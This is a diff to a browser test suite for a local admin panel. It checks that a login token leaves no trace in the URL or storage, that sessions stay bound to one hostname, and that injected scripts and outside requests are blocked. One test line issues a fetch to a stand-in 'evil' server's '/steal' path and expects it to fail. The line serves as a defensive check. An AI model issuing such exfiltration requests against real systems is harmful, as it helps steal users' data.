@@ -66,10 +66,10 @@ describe.skipIf(missing !== undefined)(`in a real browser${missing === undefined
   })
 
   const stateOf = (tab: Page) => tab.value<string>(`document.getElementById('state').textContent`)
-  const connected = (tab: Page) => until('the page is connected', async () => (await stateOf(tab)).startsWith('Connected.'))
+  const says = (tab: Page, word: string) => until(`the page says ${word}`, async () => (await stateOf(tab)).startsWith(word))
 
   test('the link opens the panel, and its token is gone from the address, the history and all that the page keeps', async () => {
-    await connected(page)
+    await says(page, 'Connected.')
     expect(await page.value('location.href')).toBe(`${panel.url}/`)
     const kept = await page.value('JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, history.state])')
     expect(kept).not.toContain(panel.token)
@@ -82,12 +82,14 @@ describe.skipIf(missing !== undefined)(`in a real browser${missing === undefined
 
   test('the page opens again without the link, also in a second tab, and by another name of the host it does not', async () => {
     await page.open(`${panel.url}/clusters`)
-    await connected(page)
+    await says(page, 'Connected.')
     const second = await browser.newPage()
     await second.open(panel.url)
-    await connected(second)
+    await says(second, 'Connected.')
     await second.open(panel.url.replace('127.0.0.1', 'localhost'))
-    await until('it says why not', async () => (await stateOf(second)).startsWith('Not signed in.'))
+    await says(second, 'Not signed in.')
+    expect(await second.value('localStorage.length')).toBe(0)
+    expect(await page.value('localStorage.length')).toBe(1)
   })
 
   test('no script but those of the panel runs in its page, and nothing is loaded from elsewhere', async () => {
@@ -102,7 +104,7 @@ describe.skipIf(missing !== undefined)(`in a real browser${missing === undefined
       return { inline: String(window.injected), image: await loaded }
     })()`)
     expect(tried).toEqual({ inline: 'undefined', image: 'refused' })
-    await expect(page.value(`fetch('http://127.0.0.1:${evil.port}/steal')`)).rejects.toThrow()
+    await expect(page.value(`fetch('http://127.0.0.1:${evil.port}/steal')`)).rejects.toThrow('Failed to fetch')
     expect(evil.received.filter(({ path }) => path !== '/favicon.ico')).toEqual([])
   })
 
